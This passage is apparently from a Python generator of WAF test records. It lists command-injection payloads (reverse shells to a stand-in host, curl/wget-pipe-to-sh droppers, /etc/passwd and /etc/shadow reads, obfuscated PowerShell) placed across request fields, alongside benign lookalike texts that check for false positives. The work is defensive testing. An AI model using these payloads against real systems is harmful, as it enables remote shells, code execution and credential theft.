    "& type C:\\inetpub\\wwwroot\\web.config",
    "| dir C:\\Users\\",
    "& forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
    "& conhost.exe --headless cmd /c whoami",
    "& c\"m\"d /c \"t^y^p^e C:\\Windows\\win.ini\"",
    "& ^p^i^n^g -n 5 127.0.0.1",
    "& %windir%\\system32\\cmd.exe /c ver",
    "& cmd /c set /a 1337*1337",
    "& powershell -c \"$e=[char]0x77+'hoami';iex $e\"",
    "& powershell -c \"iex $env:X\"",
    "& powershell -c \"Get-Content C:\\Windows\\win.ini\"",
    "& powershell -c \"sal x iex; x 'whoami'\"",
    "& powershell -noni -nop -w 1 -enc SQBFAFgA",
]

SEPARATOR = [
    "\nid",
    f"x\nnc {H} 4444 -e /bin/sh",
    "127.0.0.1\ncat /etc/passwd",
    "127.0.0.1\r\nwhoami",
    "foo%0aid",
    "foo%0a/bin/cat%20/etc/passwd",
    f"%0d%0acurl http://{H}/x|sh",
    f"x%0Awget%20{H}/s%20-O-|sh",
    "$(id)",
    "$(cat /etc/passwd)",
    "`id`",
    "`cat /etc/passwd`",
    f"$(curl -s {H}/x|sh)",
    f"`wget -qO- {H}/y|sh`",
    "x$(sleep 10)x",
    "(id)",
    "; (cat /etc/passwd)",
    f"|| (curl {H}/z | sh) &",
    "; { id; uname -a; }",
    "&& { cat /etc/passwd; } > /tmp/o",
    f"| (sleep 5; nc {H} 4444 -e sh)",
    "$((1+1))$(whoami)",
    "a|| id ||b",
    "x\n\n/bin/sh -c 'id'",
    "\"; id; echo \"",
    "'; uname -a; echo '",
    "$(</etc/passwd)",
    "`</etc/shadow`",
    "; echo $(whoami)@$(hostname)",
    "; ping -c 10 127.0.0.1 #",
    "\n/usr/bin/id\n",
    "a\ttest\n`id`",
    "; sleep 7 #",
    "127.0.0.1 `sleep 5`",
    "& ping -n 10 127.0.0.1 &",
    "%0a%0dsleep 5",
    "x%26%26id",
    "example.com\r\nuname -a",
    "name\n{ cat /etc/passwd; }",
    f"test\n(curl -s http://{H}/q|bash)",
    "1\n$(whoami)",
    "a%0a%60id%60",
    "x%3Bid",
    "||`sleep 6`",
    "&&(uname -a)&&",
    "'\n/bin/ls -la /\n'",
    "; echo `id` > /var/www/html/o.txt",
    "\"$(touch /tmp/pwned)\"",
]

FAMILIES = {"revshell": REVSHELL, "dropper": DROPPER, "persist": PERSIST, "quoting": QUOTING,
            "spacing": SPACING, "glob": GLOB, "encoding": ENCODING, "windows": WINDOWS, "separator": SEPARATOR}
PLACES = ["query", "form", "json", "cookie", "header", "me", "oauth"]
PARAMS = ["q", "host", "ip", "cmd", "file", "name", "target", "domain", "path", "url", "search"]
OAUTH_FIELDS = ["scope", "audience", "client_id"]
CONTROL = ("\r", "\n", "\0")


def _me(value: str) -> dict[str, Any]:
    return _form("/me/location", [("csrf_token", "t0k3n"), ("place", value)])


def _oauth(field: str, value: str) -> dict[str, Any]:
    fields = [("grant_type", "client_credentials"), ("client_id", "demo-client"), ("scope", "read")]
    fields = [(k, v) for k, v in fields if k != field] + [(field, value)]
    return _form("/oauth/token", fields)


def _record(place: str, name: str, value: str, i: int) -> dict[str, Any]:
    if place == "me":
        return _me(value)
    if place == "oauth":
        return _oauth(OAUTH_FIELDS[i % len(OAUTH_FIELDS)], value)
    return _place(place, name, value)


def seven_places(i: int, payload: str) -> list[tuple[str, str]]:
    """Three of PLACES for the i-th payload, rotating (a header cannot carry CR/LF/NUL: nginx would refuse it
    before the WAF, so such a payload takes the next place instead)."""
    out: list[tuple[str, str]] = []
    k = 0
    while len(out) < 3:
        place = PLACES[(i * 3 + k) % len(PLACES)]
        k += 1
        if place == "header" and any(c in payload for c in CONTROL):
            continue
        if place not in (p for p, _ in out):
            out.append((place, PARAMS[(i + k) % len(PARAMS)]))
    return out


def attacks() -> Iterator[dict[str, Any]]:
    for sub, payloads in FAMILIES.items():
        n = 0
        for i, p in enumerate(payloads):
            for place, name in seven_places(i, p):
                n += 1
                yield {**_record(place, name, p, i), "id": f"{NAME}-rce-{sub}-{n:04d}", "category": "rce",
                       "sub": sub, "placement": place, "payload": p}


# ---------------------------------------------------------------------------------------------------- benign
SLACK_TEXTS = [
    "to test the reverse proxy I ran `nc -l 8080` on the box and curled it, works now",
    "install script is `curl -fsSL https://get.docker.com -o get-docker.sh` then read it before `sh get-docker.sh`",
    "please never pipe curl into bash on prod hosts, use the apt repo",
    "the python one-liner `python3 -m http.server 8000` is handy to share the build folder",
    "I added my key to ~/.ssh/authorized_keys on the bastion, can someone confirm it works?",
    "crontab -l on worker-2 shows the backup at 02:30, that's why disk spikes then",
    "`sudo -l` says I can restart nginx but not reload systemd units, who owns sudoers?",
    "new hire needs an account: `useradd -m -s /bin/bash jdoe` then add to the deploy group",
    "chmod +x deploy.sh before running it, the CI image lost the exec bit",
    "the setuid bit on ping is why it works without root, TIL",
    "systemctl enable --now jeeves-worker.service on the new VM please",
    "on Windows the scheduled task is created with schtasks /create, screenshot in the ticket",
    "reg add for the proxy settings is in the onboarding doc, section 4",
    "`net user` on the build agent lists a stale svc account, can we remove it?",
    "certutil -hashfile installer.msi SHA256 matches the published checksum",
    "bitsadmin is deprecated, use Start-BitsTransfer in the PowerShell scripts",
    "Invoke-WebRequest with -UseBasicParsing fixed the CI failure on Server Core",
    "PowerShell -EncodedCommand is what our RMM tool uses, security flagged it, it's expected",
    "the socat relay between the VPN and the lab is still running on port 5432",
    "openssl s_client -connect api.example.com:443 -servername api.example.com shows the new cert",
    "`ncat --ssl` isn't on the image, use openssl instead for the TLS smoke test",
    "the awk one-liner to sum column 3: awk '{s+=$3} END {print s}' access.log",
    "`tr 'a-z' 'A-Z'` uppercases the env names in the Makefile",
    "base64 -d on macOS is base64 -D, that's why the script broke for Priya",
    "xxd -r -p turns the hex dump back into bytes, useful for the firmware blob",
    "use ${IFS} carefully in the parser, it splits on tabs too",
    "the glob /var/log/nginx/*.gz matched nothing because logrotate had not run",
    "`rev` on the list of domains then sort groups them by TLD, neat trick",
    "printf '%s\\n' \"${array[@]}\" prints one per line",
    "in bash $@ keeps the arguments separate, $* joins them",
    "the telnet test to smtp.example.com port 25 timed out, firewall rule missing",
    "mshta is blocked by AppLocker on the kiosks, as intended",
    "regsvr32 the COM component again after the Office update",
    "the Ruby gem needs `require 'socket'` for the health probe",
    "Node's net.connect is what the websocket shim uses under the hood",
    "Perl's IO::Socket module is still in the legacy billing scripts",
    "PHP's fsockopen is how the old WordPress plugin checks the license server",
    "lua scripts in Redis run atomically, EVAL with the SHA is faster",
    "tftp is how the switches pull their config at boot",
    "wget -O- | tar xz is how we unpack the release tarball in the Dockerfile",
    "msfvenom came up in the pentest report, they used it for the payload demo",
    "the bind shell finding from the pentest was on the old jump box, decommissioned",
    "the red team's reverse shell got caught by EDR in 4 minutes, nice",
    "after the audit we removed the NOPASSWD line from the sudoers file",
    "my .bashrc sources ~/.aliases, that's where `ll` comes from",
    "caret ^ is the escape character in cmd.exe, that's why the path broke",
    "%COMSPEC% points to cmd.exe, don't hardcode the path in the installer",
    "the ${PATH:0:1} trick in the CTF writeup was clever",
    "rotating the keys: `ssh-keygen -t ed25519 -C ops@example.com`",
    "the cron entry `0 3 * * * /usr/local/bin/backup.sh` runs as root, should be the backup user",
    "`find / -name '*.pem' 2>/dev/null` found the old cert on the NFS share",
    "docker run -v $(pwd):/src is mounting the whole repo, fine for dev",
    "`$(git rev-parse --short HEAD)` goes in the image tag",
    "the subshell in `(cd build && make)` keeps the cwd unchanged",
    "the group `{ echo a; echo b; } > out.txt` writes both lines",
    "`echo $((3 + 4))` prints 7, arithmetic expansion",
    "the heredoc `cat <<EOF > config.yml` keeps the indentation",
    "backticks are the old style, prefer $( ) for command substitution",
    "`nohup ./long_job.sh &` keeps it running after logout",
    "sleep 5 between retries, then exponential backoff",
    "ping -c 3 8.8.8.8 works from the pod, DNS is the problem",
    "dig +short api.example.com returns the new IP already",
    "`nslookup example.com 1.1.1.1` to bypass the local resolver",
    "python -c 'import sys; print(sys.version)' shows 3.11 on the runner",
    "php -r 'echo PHP_VERSION;' says 8.2.12",
    "ruby -v and node -v are in the build log header",
    "the incident: someone ran `rm -rf /tmp/*` on the shared box and killed the sockets",
    "`chmod 600 ~/.ssh/id_ed25519` or ssh refuses the key",
    "wmic is gone in Windows 11 24H2, switch the inventory script to Get-CimInstance",
    "the Run key for the VPN client is how it starts at login",
    "vssadmin list shadows shows three restore points on the file server",
    "iptables -L -n shows the DOCKER chain, don't flush it",
    "setenforce 0 is not a fix, write the SELinux policy",
    "`kill -9` is the last resort, send SIGTERM first",
    "history -c doesn't clear the file, use `> ~/.bash_history`",
    "Windows: `whoami /groups` shows if you got the admin token",
    "the pentesters used `sudo -u#-1` against the old sudo, patched in 1.8.28",
    "x=$(curl -s https://api.example.com/health); echo $x",
    "`cat /etc/os-release` says Debian 12 on all workers",
]

PUBLIC_URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html#Command-Substitution",
    "https://www.gnu.org/software/bash/manual/html_node/Word-Splitting.html",
    "https://man7.org/linux/man-pages/man1/crontab.1.html",
    "https://man7.org/linux/man-pages/man8/useradd.8.html",
    "https://man7.org/linux/man-pages/man1/chmod.1.html",
    "https://linux.die.net/man/1/socat",
    "https://nmap.org/ncat/guide/index.html",
    "https://www.openssl.org/docs/man3.0/man1/openssl-s_client.html",
    "https://docs.python.org/3/library/socket.html",
    "https://docs.python.org/3/library/pty.html",
    "https://perldoc.perl.org/IO::Socket::INET",
    "https://www.php.net/manual/en/function.fsockopen.php",
    "https://ruby-doc.org/3.2.2/exts/socket/TCPSocket.html",
    "https://nodejs.org/api/net.html#netconnect",
    "https://www.gnu.org/software/gawk/manual/html_node/TCP_002fIP-Networking.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/bitsadmin-transfer",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/schtasks-create",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/reg-add",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/net-user",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_pwsh",
    "https://learn.microsoft.com/en-us/windows/win32/shell/regsvr32",
    "https://www.freedesktop.org/software/systemd/man/latest/systemctl.html",
    "https://www.sudo.ws/docs/man/sudoers.man/",
    "https://get.docker.com/",
    "https://sh.rustup.rs",
    "https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh",
    "https://github.com/ohmyzsh/ohmyzsh/blob/master/tools/install.sh",
    "https://attack.mitre.org/techniques/T1059/004/",
    "https://attack.mitre.org/techniques/T1053/003/",
    "https://attack.mitre.org/techniques/T1098/004/",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://en.wikipedia.org/wiki/Reverse_shell",
    "https://en.wikipedia.org/wiki/Setuid",
    "https://en.wikipedia.org/wiki/Cron",
    "https://stackoverflow.com/questions/4651437/how-do-i-set-a-variable-to-the-output-of-a-command-in-bash",
    "https://unix.stackexchange.com/questions/26784/understanding-ifs",
    "https://superuser.com/questions/1186/how-to-escape-characters-in-cmd-exe",
    "https://www.shellcheck.net/wiki/SC2086",
    "https://tldp.org/LDP/abs/html/subshells.html",
    "https://example.com/downloads/setup.ps1",
    "https://example.org/install.sh?version=2.4.1",
    "https://cdn.example.net/tools/nc-1.10.tar.gz",
]

PROSE = [
    "the cat knocked the router off the shelf again",
    "Bash at the office on Friday, bring snacks",
    "who am I supposed to ask about the parking permit?",
    "please sudo make me a sandwich (old joke, still funny)",
    "the shell company was registered in Delaware",
    "reverse the order of the list and export it to CSV",
    "our net income rose 4% this quarter",
    "set the alarm for 6:30 and the timer for 20 minutes",
    "she ran the telnet course at the community college in 1998",
    "the python in the zoo is 5 metres long",
    "Perl Jam tickets are sold out",
    "ruby anniversary gifts for 40 years",
    "the dropper bottle for the eye drops is in the cabinet",
    "persistence pays off; keep applying",
    "the bind between the two offers is the deadline",
    "Powershell training on Tuesday (yes, that's how HR spelled it)",
    "echo chamber effect in social media",
    "the kill switch on the treadmill is the red clip",
    "history of the crown: chapter 3",
    "tar and feathers in 18th century Boston",
    "find my phone, I think it's in the car",
    "wget is a tool name, but also a typo of 'widget'",
    "chmod, chown and chgrp are covered in the Linux 101 course",
    "curl up with a good book this weekend",
    "the ping pong table is booked until 3",
    "dig in the garden for the old time capsule",
    "service at the restaurant was slow but friendly",
    "register at the front desk before 9",
    "schedule the task for next Monday, not this one",
    "net weight 500 g, gross weight 550 g",
    "user add form keeps timing out on Safari",
    "at now plus one hour, reminder to call mum",
    "the nc state game is on Saturday",
    "crowns and bridges: a dentist's guide",
    "socket wrench set, 40 pieces, metric",
    "openssl is used by the VPN appliance, version in the asset list",
    "the awk-ward silence after the demo",
    "sh, the baby is sleeping",
    "id card renewal appointment at 10:15",
    "uname field on the form means 'user name'",
    "the key under the mat is not a secure authorized key",
    "root access to the garden shed: ask Tom",
    "cron job? no, Ron's job: he waters the plants",
    "the base of the tower is 64 metres wide",
    "trace the rev counter needle on the dashboard",
    "Mr. Bash & Sons, plumbing since 1952",
    "tea (green) or coffee (black)?",
    "meeting notes: {agenda, actions, owners}",
    "price $5 or 5$? the French write 5 $",
    "A&B; C&D; partners meeting",
    "100% cotton | machine washable | 30°C",
    "Q3 target: 1,200 units; actual: 1,180",
    "`code` formatting doesn't work in the ticket system",
    "the path is C:\\Users\\Public\\Documents\\report.docx",
    "see ~/Documents/notes.txt on my laptop",
    "her net user count grew by 12k",
    "mount the shelf at 1.2 m, level it, then drill",
    "email: ops@example.com; phone: +44 20 7946 0958",
    "He said: \"don't run that\" and left",
    "It's 5 o'clock somewhere; let's wrap up",
]

SEARCHES = ["nc state", "cat", "bash", "sudo", "who", "net user", "python developer", "perl", "ruby rose",
            "shell", "curl", "reverse", "php dev", "node", "awk", "socket", "cron", "root", "admin & ops",
            "o'neil", "echo", "id 42", "sh", "tar", "find", "ping", "dig", "at", "schtasks", "powershell"]
PLACES_BENIGN = ["Nice, France", "Bath, UK", "Echo, Oregon", "Kill Devil Hills, NC", "Ruby, Alaska", "Perth",
                 "Cat Island, Bahamas", "Sudbury", "Sh\u00ebngjin", "Bash Bish Falls, MA", "Tar River",
                 "Washington (DC)", "St. John's", "Saint-\u00c9tienne", "Reading; Berkshire", "M\u00fcnchen",
                 "Dollar, Scotland", "Whynot, NC", "Why, Arizona", "Root, Switzerland"]
FILE_NAMES = ["install.sh", "setup.ps1", "run_tests.bat", "backup-2024-06-01.tar.gz", "crontab.txt",
              "deploy (1).sh", "id_ed25519.pub", "reverse-shell-findings.pdf", "nc_state_schedule.xlsx",
              "bash_profile.bak", "report_final_v2.docx", "authorized_keys.example", "Dockerfile",
              "docker-compose.yml", "Makefile", "rc.local.sample", "sudoers.d-README", "socat.conf"]
USER_AGENTS = ["curl/8.5.0", "Wget/1.21.4", "python-requests/2.31.0", "PowerShell/7.4.1",
               "Mozilla/5.0 (Windows NT 10.0; Win64; x64) WindowsPowerShell/5.1.22621.2506",
               "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Go-http-client/2.0",
               "Ruby", "libwww-perl/6.72", "okhttp/4.12.0", "Microsoft-CryptoAPI/10.0", "Microsoft BITS/7.8",
               "Debian APT-HTTP/1.3 (2.6.1)"]
COOKIES = ["theme=dark; lang=en-US", "tz=Europe/Berlin; units=metric", "shell=zsh; editor=vim",
           "last_search=cat%20food", "recent=nc%20state%2Cbash", "consent={\"ads\":false,\"stats\":true}",
           "cart=3x%20socket%20wrench", "prefs=a%3D1%26b%3D2", "_ga=GA1.2.1234567890.1719000000",
           "sid=Zm9vYmFyOmJhemN1cmw; path=/"]
JSON_SETTINGS = [
    {"name": "Ann", "shell": "/bin/bash", "editor": "vim"},
    {"name": "Raj", "terminal": "PowerShell 7", "os": "Windows 11"},
    {"name": "Li", "bio": "SRE. bash, python, a little perl. Ex-sysadmin."},
    {"name": "Sam", "notes": "on-call: run `systemctl status jeeves` first"},
    {"name": "Kim", "title": "Ruby & Node developer", "location": "Perth"},
    {"name": "Bo", "schedule": "0 3 * * *", "timezone": "UTC"},
    {"name": "Ed", "ssh_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE8 ed@laptop"},
    {"name": "Mo", "website": "https://example.com/~mo/cv.html"},
    {"name": "Al", "commands": ["help", "weather Paris", "remember location Nice"]},
    {"name": "Jo", "description": "I reverse-engineer old game cartridges for fun"},
    {"name": "Ty", "feedback": "the who-am-i page should show my team"},
    {"name": "Vi", "path": "C:\\Users\\vi\\AppData\\Local\\Temp"},
    {"name": "Uma", "summary": "Windows admin: schtasks, reg, net user, GPOs"},
    {"name": "Zed", "comment": "cat pics > dog pics (fight me)"},
    {"name": "Nia", "display_name": "nia | ops"},
]
HEADER_VALUES = ["2024-06-01", "v2", "bash-client/1.0", "en-US,en;q=0.9", "no-cache", "gzip, deflate, br",
                 "https://example.com/docs?page=2", "application/json; charset=utf-8", "cli; os=linux; sh=zsh"]
OAUTH_VALUES = [("scope", "read"), ("scope", "read write"), ("audience", "jeeves"), ("scope", "clients:admin"),
                ("client_id", "jeeves-worker"), ("audience", "tokendealer")]


def _benign_values() -> Iterator[tuple[str, dict[str, Any]]]:
    for s in SEARCHES:
        yield "search", _get(_query("/api/users", [("q", s), ("page", "1")]))
    for p in PLACES_BENIGN:
        yield "place", _form("/me/location", [("csrf_token", "t0k3n"), ("place", p)])
    for f in FILE_NAMES:
        yield "file", _json("/api/users", {"name": "Ann", "attachment": f})
        yield "file", _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", f)])
    for ua in USER_AGENTS:
        yield "agent", {**_get("/api/users?page=1"), "headers": {"User-Agent": ua, "Accept": "*/*"}}
    for c in COOKIES:
        yield "cookie", {**_get("/api/users?page=1"),
                         "headers": {"User-Agent": UA, "Accept": "application/json", "Cookie": "session=abc123; " + c}}
    for doc in JSON_SETTINGS:
        yield "json", _json("/api/users", doc)
    for v in HEADER_VALUES:
        yield "header", _place("header", "q", v)
    for field, v in OAUTH_VALUES:
        yield "oauth", _oauth(field, v)


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, prefix, n)
    for kind, rec in _benign_values():
        n += 1
        yield {**rec, "id": f"{prefix}-{kind}-{n:04d}", "category": "benign", "placement": kind}


if __name__ == "__main__":
    print_records(attacks(), benign())
